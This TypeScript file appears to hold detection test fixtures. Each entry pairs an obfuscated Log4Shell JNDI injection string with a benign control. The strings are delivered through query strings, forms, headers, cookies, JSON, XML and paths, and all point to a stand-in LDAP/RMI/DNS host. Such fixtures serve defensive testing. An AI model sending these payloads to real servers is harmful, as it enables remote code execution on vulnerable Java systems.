import { type Proof, agent, get, post, proof } from '../sketch.ts'

const json = { contentType: 'application/json' }
const form = { contentType: 'application/x-www-form-urlencoded' }

/** Look-ups of Log4j and their like. */
export const lookUps: readonly Proof[] = [
  proof('log4shell', get('/?x=$%7Bjndi:ldap://198.51.100.7/a}'), get('/?x=$%7Bname}')),
  proof(
    'log4shell',
    post('/login', 'user=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D', form),
    post('/login', 'user=%24%7B%24%7B%3A%3A-j%7Dack%7D', form),
  ),
  proof('log4shell', agent('${jnd${upper:i}:ldap://198.51.100.7/a}'), agent('${jn${upper:i}:x}')),
  proof(
    'log4shell',
    agent('${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://198.51.100.7/a}'),
    agent('${${lower:a}${upper:b}}'),
  ),
  proof(
    'log4shell',
    get('/', {
      headers: { 'X-Forwarded-For': '${${env:NO:-j}ndi${env:NO:-:}${env:NO:-l}dap://198.51.100.7/a}' },
    }),
    get('/', { headers: { 'X-Forwarded-For': '${env:HOME:-nowhere}' } }),
  ),
  proof(
    'log4shell',
    get('/', { cookies: 'id=%2524%257Bjndi%253Aldap%253A%252F%252F198.51.100.7%257D' }),
    get('/', { cookies: 'id=%2524%257Bjson%257D' }),
  ),
  proof(
    'log4shell',
    post('/api', String.raw`{"name":"\u0024\u007b\u006andi:dns://198.51.100.7}"}`, json),
    post('/api', String.raw`{"name":"\u0024\u007bname}"}`, json),
  ),
  proof(
    'log4shell',
    get('/', { referer: 'http://a/?q=%24{jndi%3armi%3a//198.51.100.7}' }),
    get('/', { referer: 'http://a/?q=%24{x}' }),
  ),
  proof(
    'log4shell',
    post('/', '<a>&#36;&#123;jndi:ldap://198.51.100.7/a}</a>'),
    post('/', '<a>&#36;&#123;name}</a>'),
  ),
  proof(
    'log4shell',
    get("/%24%7B%24%7Bdate%3A'j'%7D%24%7Bdate%3A'n'%7Ddi:ldap://198.51.100.7/a}"),
    get("/%24%7Bdate%3A'y'%7D"),
  ),
  proof(
    'log4shell',
    get('/', { authorization: 'Bearer ${${::-${lower:${upper:j}}}ndi:ldap://198.51.100.7}' }),
    get('/', { authorization: 'Bearer ${lower:x}' }),
  ),
  proof(
    'log4shell-local-bypass',
    get('/?x=$%7Bjndi:ldap://127.0.0.1%23.198.51.100.7/a}'),
    get('/?x=$%7Bjndi:ldap://198.51.100.7/a}'),
  ),
]
